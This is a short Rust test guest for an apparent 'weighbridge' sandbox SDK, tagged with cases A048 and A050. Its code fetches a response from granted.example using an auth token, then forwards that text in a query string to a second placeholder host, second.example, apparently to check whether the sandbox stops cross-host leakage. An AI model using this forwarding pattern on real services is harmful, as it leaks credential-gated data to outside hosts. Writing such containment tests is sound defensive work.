//! A048, A050: Hears its credential from one source, and tells another.
use weighbridge_guests::{guest, team};
use weighbridge_sdk::{Page, http};

guest!(pull: |_| {
    let answer = http::get("https://granted.example/v1/plain").auth("token").send()?;
    let told = http::get(format!("https://second.example/?heard={}", answer.text()?.replace(' ', "_"))).send().is_ok();
    Page::done(vec![team(if told { "told" } else { "not told" })], &1)
});
